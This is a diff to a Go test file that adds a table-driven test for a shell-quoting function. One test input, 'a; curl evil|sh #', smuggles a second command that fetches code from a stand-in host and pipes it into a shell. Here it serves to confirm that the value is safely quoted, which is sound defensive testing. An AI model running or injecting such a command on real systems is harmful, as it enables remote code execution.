@@ -209,6 +209,16 @@ func TestWaitsForWhatMayCome(t *testing.T) {
 	}
 }
 
+func TestWord(t *testing.T) {
+	for in, want := range map[string]string{
+		"release-1": "release-1", "": "''", "-x": "'-x'", "a; curl evil|sh #": "'a; curl evil|sh #'", "it's": `'it'\''s'`, "a\nb": "'a b'",
+	} {
+		if got := word(in); got != want {
+			t.Errorf("%q: got %s, want %s", in, got, want)
+		}
+	}
+}
+
 func TestTargetLines(t *testing.T) {
 	const repository = "registry.example/app"
 	digest := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
